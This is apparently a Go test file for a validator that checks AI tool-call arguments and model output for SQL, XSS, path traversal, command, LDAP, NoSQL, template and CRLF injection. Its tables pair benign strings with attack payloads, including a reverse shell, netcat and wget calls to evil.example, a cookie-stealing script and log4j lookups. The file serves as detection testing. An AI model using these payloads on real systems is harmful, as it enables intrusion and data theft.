package validate

import (
	"testing"
)

const (
	clean    = VerdictClean
	flagged  = VerdictFlagged
	rejected = VerdictRejected
)

func TestSQLi(t *testing.T) {
	t.Parallel()
	runDetectTable(t, map[string]detectCase{
		"tautology in a query field":             {"data.arguments.query", "' OR '1'='1", ThreatSQLi, rejected},
		"comment truncation in a user name":      {"data.arguments.username", "admin'--", ThreatSQLi, flagged},
		"union probe":                            {"data.arguments.id", "1' UNION SELECT NULL,NULL--", ThreatSQLi, flagged},
		"time delay":                             {"data.arguments.id", "1 AND SLEEP(5)", ThreatSQLi, flagged},
		"stacked statement":                      {"data.arguments.q", "1; DROP TABLE users", ThreatSQLi, rejected},
		"url-encoded":                            {"data.arguments.item", "%27%20OR%20%271%27%3D%271", ThreatSQLi, flagged},
		"mysql versioned comment":                {"data.arguments.id", "1/*!50000UNION*//*!50000SELECT*/1,2--", ThreatSQLi, flagged},
		"statement with tautology in query":      {"data.arguments.query", "SELECT * FROM users WHERE id = 1 OR 1=1", ThreatSQLi, rejected},
		"sub-select":                             {"data.arguments.user", "1' AND GTID_SUBSET(CONCAT(0x7170,(SELECT version())),1)--", ThreatSQLi, flagged},
		"real SQL in a sql field":                {"data.arguments.sql", "SELECT id, email FROM users WHERE created_at > now() - interval '7 days' ORDER BY id LIMIT 50", "", clean},
		"sql field with tautology is a tag only": {"data.arguments.sql", "SELECT * FROM users WHERE id = 1 OR 1=1", "", clean},
		"real SQL in a query field":              {"data.arguments.query", "SELECT name FROM customers WHERE last_name = 'O''Brien'", "", clean},
		"JQL in a query field":                   {"data.arguments.q", `project = ESC AND status = "In Progress" ORDER BY created DESC`, "", clean},
		"O'Brien":                                {"data.arguments.name", "O'Brien", "", clean},
		"apostrophes in a search":                {"data.arguments.search", "how to fix 'permission denied' on ubuntu", "", clean},
		"arithmetic":                             {"data.arguments.math", "(1 + 2) * 3 = 9", "", clean},
		"inequalities":                           {"data.arguments.math", "3 < 5 and 7 > 2", "", clean},
		"expression in an unknown field":         {"data.arguments.rule", "status != 'closed' || priority == 1", "", clean},
		"product called SELECT Comfort":          {"data.arguments.company", "SELECT Comfort", "", clean},
		"sentence with a semicolon":              {"data.arguments.note", "pick one; select the best of them", "", clean},
		"SQL discussed in Markdown code":         {"data.output", "Note that `' OR 1=1 --` returns every row.", "", clean},
		"tautology in free text is flagged":      {"data.output", "try username ' OR '1'='1 to log in", ThreatSQLi, flagged},
		"CASE WHEN probe in an order parameter":  {"data.arguments.order", "(CASE WHEN (1=1) THEN name ELSE id END)", ThreatSQLi, flagged},
		"CASE WHEN sub-select in a sort":         {"data.arguments.sort", "(CASE WHEN (SELECT ASCII(SUBSTRING(password,1,1)) FROM users)>64 THEN name ELSE id END)", ThreatSQLi, flagged},
		"IF probe in an order parameter":         {"data.arguments.order", "IF(1=1,name,id)", ThreatSQLi, flagged},
		"CASE WHEN probe in a query fragment":    {"data.arguments.q", "name (CASE WHEN 1=2 THEN 1 ELSE 2 END)", ThreatSQLi, rejected},
		"CASE on a column in an order parameter": {"data.arguments.order", "CASE WHEN status='open' THEN 0 ELSE 1 END", "", clean},
		"plain sort parameter":                   {"data.arguments.sort", "created_at desc", "", clean},
		"CASE in a sql field is expected":        {"data.arguments.sql", "SELECT CASE WHEN qty > 10 THEN 'bulk' ELSE 'retail' END FROM orders", "", clean},
		"WHERE-style filter":                     {"data.arguments.filter", "status = 'open' AND priority > 2", "", clean},
		"WHERE-style filter with LIKE and IN":    {"data.arguments.filter", "name LIKE '%smith%' AND status IN ('open','pending')", "", clean},
		"WHERE-style filter with a function":     {"data.arguments.filter", "updated_at > now() - interval '7 days'", "", clean},
		"filter with a doubled quote":            {"data.arguments.filters", "assignee = 'O''Brien' AND NOT archived", "", clean},
		"tautology in a filter":                  {"data.arguments.filter", "' OR '1'='1", ThreatSQLi, rejected},
		"tautology after a filter":               {"data.arguments.filter", "status = 'open' OR '1'='1", ThreatSQLi, rejected},
		"union in a filter":                      {"data.arguments.filter", "x' UNION SELECT password FROM users--", ThreatSQLi, rejected},
		"stacked drop in a filter":               {"data.arguments.filter", "1; DROP TABLE users", ThreatSQLi, rejected},
		"quote breakout in a filter":             {"data.arguments.filter", "' or ''&'", ThreatSQLi, rejected},
	})
}

func TestXSS(t *testing.T) {
	t.Parallel()
	runDetectTable(t, map[string]detectCase{
		"script tag":                       {"data.arguments.name", "<script>alert(1)</script>", ThreatXSS, flagged},
		"event handler":                    {"data.arguments.bio", `<img src=x onerror=alert(1)>`, ThreatXSS, flagged},
		"attribute breakout":               {"data.arguments.title_attr", `" onmouseover="alert(1)`, ThreatXSS, flagged},
		"javascript URL in a url field":    {"data.arguments.url", "javascript:alert(document.cookie)", ThreatXSS, rejected},
		"entity-encoded javascript URL":    {"data.arguments.link", "&#106;avascript:alert(1)", ThreatXSS, rejected},
		"tab-split scheme":                 {"data.arguments.name", "<IMG SRC=\"jav\tascript:alert('XSS');\">", ThreatXSS, flagged},
		"percent-encoded":                  {"data.arguments.q", "%3Cscript%3Ealert(1)%3C/script%3E", ThreatXSS, rejected},
		"double-encoded":                   {"data.arguments.name", "%253Cscript%253Ealert(1)%253C/script%253E", ThreatXSS, flagged},
		"nested script":                    {"data.arguments.bio", "<scr<script>ipt>alert(1)</scr</script>ipt>", ThreatXSS, flagged},
		"javascript string breakout":       {"data.arguments.search_term", "';alert(1);//", ThreatXSS, rejected},
		"script in model output":           {"data.output", "Done! <script>fetch('//evil.example/'+document.cookie)</script>", ThreatXSS, flagged},
		"bold in Markdown output":          {"data.output", "Here is **bold** and <b>html</b> text.", "", clean},
		"link with a query string":         {"data.output", `See <a href="https://example.com/docs?x=1&y=2">the docs</a>.`, "", clean},
		"image":                            {"data.content", `<img src="chart.png" alt="Revenue by month">`, "", clean},
		"stylesheet and meta":              {"data.output", "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><link rel=\"stylesheet\" href=\"/s.css\"><style>body{color:#333}</style></head><body><p>Hi</p></body></html>", "", clean},
		"youtube iframe":                   {"data.output", `<iframe src="https://www.youtube.com/embed/abc" allowfullscreen></iframe>`, "", clean},
		"script tag in a code fence":       {"data.output", "The file:\n\n```html\n<button onclick=\"save()\">Save</button>\n<script src=\"app.js\"></script>\n```", "", clean},
		"script tag in inline code":        {"data.output", "Never render `<script>alert(1)</script>` as raw HTML.", "", clean},
		"script tag mentioned in prose":    {"data.gen_ai.completion", "The <script> element embeds JavaScript, usually in the <head>.", "", clean},
		"less-than heart":                  {"data.content", "<3 thanks so much!!", "", clean},
		"URL with a query string":          {"data.arguments.url", "https://example.com/search?q=golang&page=2", "", clean},
		"html written to a file is source": {"data.arguments.html", `<div onclick="toggle()">Menu</div><script>init();</script>`, "", clean},
		"data: image URL":                  {"data.arguments.url", "data:image/png;base64,iVBORw0KGgo=", "", clean},
	})
}

func TestPathTraversal(t *testing.T) {
	t.Parallel()
	runDetectTable(t, map[string]detectCase{
		"dotdot to passwd":              {"data.arguments.path", "../../etc/passwd", ThreatPathTraversal, rejected},
		"encoded slash":                 {"data.arguments.file", "..%2f..%2f..%2fetc%2fpasswd", ThreatPathTraversal, rejected},
		"double-encoded dot":            {"data.arguments.path", "%252e%252e%252fetc%252fpasswd", ThreatPathTraversal, rejected},
		"overlong UTF-8":                {"data.arguments.path", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", ThreatPathTraversal, rejected},
		"overlong slash":                {"data.arguments.path", "..%c0%af..%c0%afetc%c0%afpasswd", ThreatPathTraversal, rejected},
		"IIS unicode slash":             {"data.arguments.path", "..%u2215..%u2215etc%u2215passwd", ThreatPathTraversal, rejected},
		"backslashes":                   {"data.arguments.path", `..\..\..\windows\win.ini`, ThreatPathTraversal, rejected},
		"filter bypass":                 {"data.arguments.path", "....//....//etc/passwd", ThreatPathTraversal, rejected},
		"tomcat path parameter":         {"data.arguments.url", "https://app.example.com/..;/..;/WEB-INF/web.xml", ThreatPathTraversal, rejected},
		"NUL byte":                      {"data.arguments.filename", "shell.php%00.png", ThreatPathTraversal, rejected},
		"absolute escape":               {"data.arguments.path", "/var/www/html/../../../etc/shadow", ThreatPathTraversal, rejected},
		"sensitive file":                {"data.arguments.path", "/etc/passwd", ThreatPathTraversal, rejected},
		"query parameter traversal":     {"data.arguments.url", "http://target/index.php?page=../../../../etc/passwd", ThreatPathTraversal, rejected},
		"traversal in an unknown field": {"data.arguments.page", "../../../etc/passwd", ThreatPathTraversal, flagged},
		"file URL in an unknown field":  {"data.arguments.resource", "file:///etc/passwd", ThreatPathTraversal, flagged},
		"dotdot in a file name":         {"data.arguments.filename", "../secret.txt", ThreatPathTraversal, rejected},
		"Windows path":                  {"data.arguments.path", `C:\Users\me\file.txt`, "", clean},
		"Program Files":                 {"data.arguments.path", `C:\Program Files (x86)\App\config.ini`, "", clean},
		"one level up":                  {"data.arguments.path", "../README.md", "", clean},
		"up and down again":             {"data.arguments.path", "src/../docs/index.md", "", clean},
		"date range in a file name":     {"data.arguments.path", "/srv/exports/data_2024-01-01..2024-01-31.csv", "", clean},
		"nginx config":                  {"data.arguments.path", "/etc/nginx/nginx.conf", "", clean},
		"public key":                    {"data.arguments.path", "/home/me/.ssh/id_rsa.pub", "", clean},
		"UNC share":                     {"data.arguments.path", `\\fileserver\share\q3.xlsx`, "", clean},
		"ellipsis":                      {"data.content", "...", "", clean},
		"git range":                     {"data.arguments.ref", "HEAD~3..HEAD", "", clean},
		"relative link in prose":        {"data.arguments.notes", "See ../../docs/architecture.md for details.", "", clean},
		"monorepo sibling config":       {"data.arguments.path", "../../shared/config.yaml", "", clean},
		"monorepo package three up":     {"data.arguments.path", "../../../packages/ui/src/index.ts", "", clean},
		"go.mod two up":                 {"data.arguments.file_path", "../../go.mod", "", clean},
		"backslash monorepo path":       {"data.arguments.path", `..\..\shared\appsettings.json`, "", clean},
		"env template two up":           {"data.arguments.path", "../../.env.example", "", clean},
		"flutter windows folder":        {"data.arguments.path", "../../../apps/mobile/windows/runner/main.cpp", "", clean},
		"shallow climb in unknown":      {"data.arguments.source", "../../shared/config.yaml", "", clean},
		"four levels up":                {"data.arguments.path", "../../../../shared/x.yaml", ThreatPathTraversal, rejected},
		"four levels up in unknown":     {"data.arguments.source", "../../../../shared/x.yaml", ThreatPathTraversal, flagged},
		"down then above the start":     {"data.arguments.path", "src/../../x.go", ThreatPathTraversal, rejected},
		"above the root":                {"data.arguments.path", "/var/www/../../../x", ThreatPathTraversal, rejected},
		"env file two up":               {"data.arguments.path", "../../.env", ThreatPathTraversal, rejected},
		"env file one up":               {"data.arguments.path", "../.env.production", ThreatPathTraversal, rejected},
		"rails secrets two up":          {"data.arguments.path", "../../config/database.yml", ThreatPathTraversal, rejected},
		"private key two up":            {"data.arguments.path", "../../id_rsa", ThreatPathTraversal, rejected},
		"aws dir three up":              {"data.arguments.path", "../../../.aws/config", ThreatPathTraversal, rejected},
		"web.config three up":           {"data.arguments.path", `..\..\..\inetpub\wwwroot\web.config`, ThreatPathTraversal, rejected},
		"etc reached shallowly":         {"data.arguments.path", "../../../etc/hosts", ThreatPathTraversal, rejected},
		"encoded shallow climb":         {"data.arguments.path", "..%2f..%2fshared%2fconfig.yaml", ThreatPathTraversal, rejected},
		"mixed slashes shallow":         {"data.arguments.path", `..\/..\/config.yaml`, ThreatPathTraversal, rejected},
		"semicolon dotdot shallow":      {"data.arguments.path", "..;/..;/admin", ThreatPathTraversal, rejected},
		"NUL after a shallow climb":     {"data.arguments.path", "../../x.php%00.png", ThreatPathTraversal, rejected},
	})
}

// TestPathTraversalShallowClimb: a shallow ".." climb to an ordinary file
// is recorded as an informational path.dotdot in a path field and keeps
// the verdict clean; one level up is not worth recording.
func TestPathTraversalShallowClimb(t *testing.T) {
	t.Parallel()
	v := newValidator(t, "standard")
	cases := map[string]struct {
		field, value string
		info         bool
	}{
		"two up in a path":          {"data.arguments.path", "../../shared/config.yaml", true},
		"three up in a file path":   {"data.tool_input.file_path", "../../../packages/ui/src/index.ts", true},
		"one up":                    {"data.arguments.path", "../README.md", false},
		"two up in an unknown":      {"data.arguments.source", "../../shared/config.yaml", false},
		"absolute with a short hop": {"data.arguments.path", "/workspace/repo/services/api/../../shared/types.ts", false},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := v.CheckField(tc.field, tc.value)
			if r.Verdict != clean {
				t.Fatalf("%q: %s, want clean (%+v)", tc.value, r.Verdict, r.Threats)
			}
			if got := hasInfo(r, ThreatPathTraversal); got != tc.info {
				t.Errorf("%q: informational path_traversal = %v, want %v (%+v)", tc.value, got, tc.info, r.Threats)
			}
		})
	}
}

func TestPathTraversalAllowedRoots(t *testing.T) {
	t.Parallel()
	v := newValidator(t, "standard", func(c *Config) { c.AllowedRoots = []string{"/srv/app", `C:\work`} })
	cases := map[string]struct {
		value string
		want  Verdict
	}{
		"inside":            {"/srv/app/src/main.go", clean},
		"the root itself":   {"/srv/app", clean},
		"outside":           {"/home/me/.bashrc", rejected},
		"prefix is not in":  {"/srv/application/x", rejected},
		"cleaned escape":    {"/srv/app/../other/x", rejected},
		"relative inside":   {"src/main.go", clean},
		"relative climbing": {"../x", rejected},
		"windows inside":    {`C:\work\notes.txt`, clean},
		"windows outside":   {`D:\notes.txt`, rejected},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := v.CheckField("data.arguments.path", tc.value)
			if r.Verdict != tc.want {
				t.Errorf("%q: %s, want %s (%+v)", tc.value, r.Verdict, tc.want, r.Threats)
			}
		})
	}
}

func TestCmdInjection(t *testing.T) {
	t.Parallel()
	runDetectTable(t, map[string]detectCase{
		"chained in a host":                 {"data.arguments.host", "127.0.0.1; cat /etc/passwd", ThreatCmdInjection, rejected},
		"and-and":                           {"data.arguments.domain", "example.com && whoami", ThreatCmdInjection, rejected},
		"substitution":                      {"data.arguments.filename", "report$(whoami).pdf", ThreatCmdInjection, rejected},
		"backticks":                         {"data.arguments.name", "x`id`", ThreatCmdInjection, flagged},
		"pipe to a command":                 {"data.arguments.name", "a | nc evil.example 4444 -e /bin/sh", ThreatCmdInjection, flagged},
		"newline":                           {"data.arguments.ip", "10.0.0.1\nwhoami", ThreatCmdInjection, rejected},
		"encoded newline":                   {"data.arguments.target", "127.0.0.1%0acat%20/etc/passwd", ThreatCmdInjection, flagged},
		"IFS":                               {"data.arguments.name", "a;cat${IFS}/etc/passwd", ThreatCmdInjection, flagged},
		"quote obfuscation":                 {"data.arguments.name", ";w'h'o'am'i", ThreatCmdInjection, flagged},
		"glob command":                      {"data.arguments.name", ";/???/??t /???/p??s??", ThreatCmdInjection, flagged},
		"windows":                           {"data.arguments.name", "& net user", ThreatCmdInjection, flagged},
		"option injection in a host":        {"data.arguments.host", "-oProxyCommand=id", ThreatCmdInjection, rejected},
		"reverse shell in an unknown":       {"data.arguments.name", "x; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", ThreatCmdInjection, flagged},
		"pipeline in a command field":       {"data.arguments.command", "ps aux | grep nginx", "", clean},
		"chain in a command field":          {"data.arguments.command", "git pull && go test ./... 2>&1 | tail -20", "", clean},
		"reverse shell in a command field":  {"data.arguments.command", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "", clean},
		"semicolon in prose":                {"data.arguments.note", "Call back after 5pm; ask for Dana.", "", clean},
		"id is a word":                      {"data.arguments.note", "required fields; id is required", "", clean},
		"query string":                      {"data.arguments.url", "https://example.com/list?a=1&id=5&cat=books", "", clean},
		"matrix parameter":                  {"data.arguments.url", "https://example.com/app;jsessionid=ABC123?x=1", "", clean},
		"data URL":                          {"data.arguments.url", "data:image/png;base64,iVBORw0KGgo=", "", clean},
		"ampersand in a file name":          {"data.arguments.filename", "Q&A.pdf", "", clean},
		"cookie header":                     {"data.arguments.headers.Cookie", "session=abc; theme=dark", "", clean},
		"markdown code span":                {"data.arguments.description", "run `ls -la` to see them", "", clean},
		"shell variable in a path":          {"data.arguments.path", "$HOME/.local/bin", "", clean},
		"semicolon in a path":               {"data.arguments.path", "notes;draft.txt", "", clean},
		"path parameter":                    {"data.arguments.path", "/srv/app/data;v=2/x", "", clean},
		"pipe in a path":                    {"data.arguments.path", "/tmp/a|b", "", clean},
		"semicolon in a file name":          {"data.arguments.filename", "Q1 report; final (v2).xlsx", "", clean},
		"command word as a word":            {"data.arguments.filename", "Passport; ID scan.pdf", "", clean},
		"weak command word in a file name":  {"data.arguments.filename", "Notes; more (v2).txt", "", clean},
		"ampersand and pipe in a file name": {"data.arguments.filename", "R&D | Budget 2024.xlsx", "", clean},
		"arithmetic in a file name":         {"data.arguments.filename", "run-$((1+2)).log", "", clean},
		"rm in a path":                      {"data.arguments.path", "report.txt; rm -rf /", ThreatCmdInjection, rejected},
		"netcat in a path":                  {"data.arguments.path", "x | nc evil 4444", ThreatCmdInjection, rejected},
		"netcat in an unknown":              {"data.arguments.name", "x | nc evil 4444", ThreatCmdInjection, flagged},
		"download and run in a path":        {"data.arguments.path", "a.txt && curl x|sh", ThreatCmdInjection, rejected},
		"wget URL in a path":                {"data.arguments.file", "x.log; wget http://evil.example/s -O /tmp/s", ThreatCmdInjection, rejected},
		"substitution in a file name":       {"data.arguments.filename", "$(id).txt", ThreatCmdInjection, rejected},
		"backticks in a file name":          {"data.arguments.filename", "`whoami`.pdf", ThreatCmdInjection, rejected},
		"bare id after a separator":         {"data.arguments.path", "/tmp/x;id", ThreatCmdInjection, rejected},
		"cat of an absolute path":           {"data.arguments.path", "/tmp/x;cat /etc/hosts", ThreatCmdInjection, rejected},
		"sleep with a number":               {"data.arguments.path", "file.txt;sleep 5", ThreatCmdInjection, rejected},
		"type of a drive path":              {"data.arguments.file", "| type C:\\Windows\\win.ini", ThreatCmdInjection, rejected},
		"semicolon in a host":               {"data.arguments.host", "db.internal;x", ThreatCmdInjection, rejected},
	})
}

func TestLDAPInjection(t *testing.T) {
	t.Parallel()
	runDetectTable(t, map[string]detectCase{
		"classic breakout":          {"data.arguments.filter", "*)(uid=*))(|(uid=*", ThreatLDAPInjection, rejected},
		"always true":               {"data.arguments.username", "admin)(&)", ThreatLDAPInjection, flagged},
		"or injection":              {"data.arguments.user", "*)(|(objectclass=*)", ThreatLDAPInjection, flagged},
		"NUL escape in a filter":    {"data.arguments.ldap_filter", `(uid=admin\00)`, ThreatLDAPInjection, rejected},
		"encoded":                   {"data.arguments.login", "%2a%29%28%7c%28uid%3d%2a", ThreatLDAPInjection, flagged},
		"unbalanced in a filter":    {"data.arguments.filter", "admin)(cn=*", ThreatLDAPInjection, rejected},
		"truncation":                {"data.arguments.group", "admin)%00", ThreatLDAPInjection, flagged},
		"complete filter":           {"data.arguments.filter", "(&(objectClass=user)(cn=John*))", "", clean},
		"escaped comma":             {"data.arguments.ldap_filter", `(cn=Smith\2c John)`, "", clean},
		"matching rule":             {"data.arguments.filter", "(!(userAccountControl:1.2.840.113556.1.4.803:=2))", "", clean},
		"other filter syntax":       {"data.arguments.filter", "name eq 'O''Brien' and (age gt 30)", "", clean},
		"function call in unknown":  {"data.arguments.expr", "f(a)(b=1)", "", clean},
		"parentheses in prose":      {"data.arguments.note", "pick one (a) or (b)", "", clean},
		"distinguished name member": {"data.arguments.member", "uid=jdoe,ou=people,dc=example,dc=com", "", clean},
		"COUNT(*) in a filter":      {"data.arguments.filter", "count(*) > 5", "", clean},
		"star close in a filter":    {"data.arguments.filter", "admin*)", ThreatLDAPInjection, rejected},
	})
}

func TestNoSQLi(t *testing.T) {
	t.Parallel()
	runDetectTable(t, map[string]detectCase{
		"operator object as text":  {"data.arguments.password", `{"$ne": null}`, ThreatNoSQLi, flagged},
		"query-string operator":    {"data.arguments.login", "username[$ne]=toto&password[$ne]=toto", ThreatNoSQLi, flagged},
		"where injection":          {"data.arguments.user", "', $where: '1 == 1'", ThreatNoSQLi, flagged},
		"javascript equality":      {"data.arguments.user", "' || 'a'=='a", ThreatNoSQLi, flagged},
		"this.password":            {"data.arguments.user", "' && this.password.match(/.*/)//", ThreatNoSQLi, flagged},
		"sleep":                    {"data.arguments.id", "';sleep(5000);", ThreatNoSQLi, flagged},
		"price":                    {"data.arguments.price", "$5", "", clean},
		"prices in text":           {"data.arguments.note", "costs $10, or $5 on sale", "", clean},
		"operator named in prose":  {"data.arguments.note", "use the $gt operator for ranges", "", clean},
		"query document in query":  {"data.arguments.query", `{"age": {"$gt": 30}}`, "", clean},
		"mongo shell in query":     {"data.tool_input.query", "db.users.find({age: {$gt: 30}})", "", clean},
		"shell variable in a path": {"data.arguments.path", "${HOME}/bin", "", clean},
		"operator key as a field":  {"data.arguments.user[$ne]", "x", ThreatNoSQLi, flagged},
		"operator key, empty":      {"data.arguments.pass[$gt]", "", ThreatNoSQLi, flagged},
		"operator in a URL query":  {"data.arguments.url", "https://app.example.com/login?user[$ne]=a&pass[$ne]=b", ThreatNoSQLi, rejected},
		"encoded form body":        {"data.arguments.form", "user%5B%24ne%5D=a&pass%5B%24ne%5D=b", ThreatNoSQLi, flagged},
		"bracket key not an op":    {"data.arguments.page[size]", "50", "", clean},
		"bracket query string":     {"data.arguments.url", "https://api.example.com/items?page[size]=50&filter[status]=open", "", clean},
	})
}

func TestNoSQLiOperatorKeys(t *testing.T) {
	t.Parallel()
	v := newValidator(t, "standard")
	cases := map[string]struct {
		data    string
		verdict Verdict
		info    bool
	}{
		"operator for a password":       {`{"arguments":{"username":"admin","password":{"$ne":null}}}`, flagged, false},
		"operator for a path":           {`{"arguments":{"path":{"$gt":""}}}`, rejected, false},
		"filter document":               {`{"arguments":{"collection":"users","filter":{"age":{"$gte":18},"tags":{"$in":["a"]}}}}`, clean, true},
		"aggregation pipeline":          {`{"arguments":{"pipeline":[{"$match":{"s":"A"}},{"$group":{"_id":"$c","t":{"$sum":"$a"}}}]}}`, clean, true},
		"find document":                 {`{"arguments":{"collection":"users","find":{"age":{"$gt":30}}}}`, clean, true},
		"dollar key that is not an op":  {`{"arguments":{"prices":{"$5":"cheap"}}}`, clean, false},
		"query document as embedded js": {`{"gen_ai.tool.call.arguments":"{\"query\":{\"$and\":[{\"a\":1}]}}"}`, clean, true},
		"bracket operator keys":         {`{"arguments":{"user[$ne]":"x","pass[$ne]":"x"}}`, flagged, false},
		"bracket operator, empty value": {`{"arguments":{"login":"admin","pass[$gt]":""}}`, flagged, false},
		"bracket operator with array":   {`{"arguments":{"user[$in][]":["admin","root"]}}`, flagged, false},
		"bracket operator, number":      {`{"arguments":{"user":"admin","pass[$gt]":0}}`, flagged, false},
		"bracket operator, object":      {`{"arguments":{"user[$ne]":{"a":1}}}`, flagged, false},
		"JSON:API style keys":           {`{"arguments":{"page[size]":"50","filter[status]":"open"}}`, clean, false},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := v.CheckEvent(envelope(t, tc.data))
			if r.Verdict != tc.verdict {
				t.Errorf("verdict %s, want %s: %+v", r.Verdict, tc.verdict, r.Threats)
			}
			if hasInfo(r, ThreatNoSQLi) != tc.info {
				t.Errorf("informational nosqli tag = %v, want %v: %+v", !tc.info, tc.info, r.Threats)
			}
		})
	}
}

func TestTemplateInjection(t *testing.T) {
	t.Parallel()
	runDetectTable(t, map[string]detectCase{
		"arithmetic probe":         {"data.arguments.name", "{{7*7}}", ThreatTemplateInjection, flagged},
		"string multiplication":    {"data.arguments.name", "{{7*'7'}}", ThreatTemplateInjection, flagged},
		"dollar brace":             {"data.arguments.name", "${7*7}", ThreatTemplateInjection, flagged},
		"ERB":                      {"data.arguments.name", "<%= 7*7 %>", ThreatTemplateInjection, flagged},
		"object walk":              {"data.arguments.name", "{{''.__class__.__mro__[1].__subclasses__()}}", ThreatTemplateInjection, flagged},
		"config global":            {"data.arguments.name", "{{config.items()}}", ThreatTemplateInjection, flagged},
		"spring expression":        {"data.arguments.name", "${T(java.lang.Runtime).getRuntime().exec('id')}", ThreatTemplateInjection, flagged},
		"log4j lookup in header":   {"data.arguments.user_agent", "${jndi:ldap://evil.example/a}", ThreatTemplateInjection, rejected},
		"obfuscated lookup":        {"data.arguments.name", "${${lower:j}ndi:${lower:l}dap://evil.example/x}", ThreatTemplateInjection, flagged},
		"angular sandbox escape":   {"data.arguments.name", "{{constructor.constructor('alert(1)')()}}", ThreatTemplateInjection, flagged},
		"freemarker":               {"data.arguments.name", `<#assign ex="freemarker.template.utility.Execute"?new()> ${ ex("id") }`, ThreatTemplateInjection, flagged},
		"in a prompt":              {"data.prompt", "Hello {{7*7}}", ThreatTemplateInjection, flagged},
		"format placeholder":       {"data.arguments.greeting", "Hello {name}", "", clean},
		"mustache variable":        {"data.arguments.greeting", "Dear {{ customer.first_name }},", "", clean},
		"jinja loop":               {"data.arguments.template", "{% for p in products %}{{ p.title }}{% endfor %}", "", clean},
		"shell variable":           {"data.arguments.value", "${HOME}/bin", "", clean},
		"ruby interpolation":       {"data.arguments.value", "#{user.name}", "", clean},
		"wiki link":                {"data.arguments.value", "[[Main Page]]", "", clean},
		"arithmetic in prose":      {"data.output", "The answer is 7*7 = 49.", "", clean},
		"template in a code fence": {"data.output", "```jinja\n{{ config.SECRET_KEY }}\n```", "", clean},
	})
}

func TestCRLF(t *testing.T) {
	t.Parallel()
	runDetectTable(t, map[string]detectCase{
		"raw in a header":          {"data.arguments.headers.X-Custom", "a\r\nSet-Cookie: x=1", ThreatCRLF, rejected},
		"encoded in a header":      {"data.arguments.user_agent", "Mozilla%0d%0aX-Evil:%201", ThreatCRLF, rejected},
		"double-encoded in a url":  {"data.arguments.url", "https://example.com/%250d%250aSet-Cookie:a=1", ThreatCRLF, rejected},
		"unicode CRLF":             {"data.arguments.next", "%E5%98%8A%E5%98%8DSet-Cookie:crlf=injection", ThreatCRLF, flagged},
		"encoded in an unknown":    {"data.arguments.return_to", "/home%0d%0aLocation:%20https://evil.example", ThreatCRLF, flagged},
		"literal escapes":          {"data.arguments.next", "%5cr%5cnSet-Cookie:crlf=injection", ThreatCRLF, flagged},
		"raw header in an unknown": {"data.arguments.lang", "en\r\nX-Forwarded-For: 127.0.0.1", ThreatCRLF, flagged},
		"mail header injection":    {"data.arguments.reply", "bob\r\nBcc: victim@example.com", ThreatCRLF, flagged},
		"multi-line text":          {"data.arguments.body", "Hi team,\r\nNote: the deploy is done.\r\n", "", clean},
		"multi-line unknown":       {"data.arguments.draft", "Line one\nTo be continued: line two", "", clean},
		"encoded space":            {"data.arguments.url", "https://example.com/a%20b?q=c%20d", "", clean},
		"header with parameters":   {"data.arguments.headers.Content-Type", "multipart/form-data; boundary=----x", "", clean},
	})
}

func TestIdentifiers(t *testing.T) {
	t.Parallel()
	runDetectTable(t, map[string]detectCase{
		"tenant":               {"tenant", "acme", "", clean},
		"tenant upper case":    {"tenant", "ACME", "", rejected},
		"tenant with a dot":    {"tenant", "acme.prod", "", rejected},
		"agent with wildcard":  {"agentid", "agent-*", "", rejected},
		"session":              {"sessionid", "sess_01", "", clean},
		"tool name":            {"data.gen_ai.tool.name", "mcp__filesystem__read_file", "", clean},
		"tool name with space": {"data.gen_ai.tool.name", "read file", "", rejected},
		"tool name injection":  {"data.tool_calls[0].function.name", "get_weather; rm -rf /", "", rejected},
		"function name":        {"data.tool_calls[0].function.name", "get_weather", "", clean},
		"namespaced tool name": {"data.arguments.tool", "github.create_issue", "", clean},
		"tool name permissive": {"data.tool_name", "<script>", "", rejected},
	})
}

// TestSQLiFragmentShapes covers the injection shapes libinjection's
// fingerprints miss (see detect_sqli_fragment.go), each with prose or
// data that looks close and must stay clean.
func TestSQLiFragmentShapes(t *testing.T) {
	t.Parallel()
	runDetectTable(t, map[string]detectCase{
		"breakout with glob":              {"data.arguments.username", "'or(id glob 1)--", ThreatSQLi, flagged},
		"breakout with a pipe":            {"data.arguments.username", "x'|email--", ThreatSQLi, flagged},
		"breakout with xor":               {"data.arguments.id", "'xor 7<", ThreatSQLi, flagged},
		"breakout with is not":            {"data.arguments.id", "' is not?--", ThreatSQLi, flagged},
		"breakout into a variable":        {"data.arguments.username", "';@@#--", ThreatSQLi, flagged},
		"breakout into a value list":      {"data.arguments.id", "', 2, 1", ThreatSQLi, flagged},
		"numeric tautology with comment":  {"data.arguments.id", " or 1=1 /*", ThreatSQLi, flagged},
		"tautology after a word":          {"data.arguments.id", "hi or 1=1 --\"", ThreatSQLi, flagged},
		"order by column probe":           {"data.arguments.id", " ORDER BY 29-- ", ThreatSQLi, flagged},
		"comment alone":                   {"data.arguments.id", "-- -", ThreatSQLi, flagged},
		"comment before a parameter":      {"data.arguments.username", " -- &password=", ThreatSQLi, flagged},
		"boolean probe":                   {"data.arguments.id", "AND false", ThreatSQLi, flagged},
		"statement in a user name":        {"data.arguments.username", "select current_setting('config_file');", ThreatSQLi, flagged},
		"hex literal select":              {"data.arguments.id", "select 0x616263", ThreatSQLi, flagged},
		"insert where a value belongs":    {"data.arguments.username", "' insert into users(login, password) values('a','b')", ThreatSQLi, flagged},
		"stacked user variable":           {"data.arguments.id", "1;SET @a=0x73656c656374", ThreatSQLi, flagged},
		"prepared statement chain":        {"data.arguments.url", "https://shop.example.com/p?id=mod%281%2C1%29%3BSET%20%40a%3D1%3Bprepare%20b%20from%20%40a%3Bexecute%20b%3B", ThreatSQLi, rejected},
		"backquoted FROM clause":          {"data.arguments.id", "FROM `oxattribute` WHERE 1", ThreatSQLi, flagged},
		"postgres catalog":                {"data.arguments.id", "pg_catalog.pg_tables", ThreatSQLi, flagged},
		"information schema":              {"data.arguments.id", "1 union all select table_name from information_schema.tables", ThreatSQLi, flagged},
		"exec of a variable":              {"data.arguments.url", "exec(@s)", ThreatSQLi, rejected},
		"null-safe tautology":             {"data.arguments.id", "42<=>42", ThreatSQLi, flagged},
